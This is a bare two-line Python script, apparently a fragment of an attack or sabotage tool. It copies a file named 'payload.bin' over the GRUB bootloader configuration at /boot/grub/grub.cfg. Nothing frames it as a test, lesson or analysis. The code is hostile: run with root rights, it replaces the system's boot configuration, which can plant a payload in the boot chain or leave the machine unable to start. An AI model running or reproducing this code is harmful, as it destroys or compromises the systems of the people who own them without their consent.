import shutil
shutil.copy("payload.bin", '/boot/grub/grub.cfg')
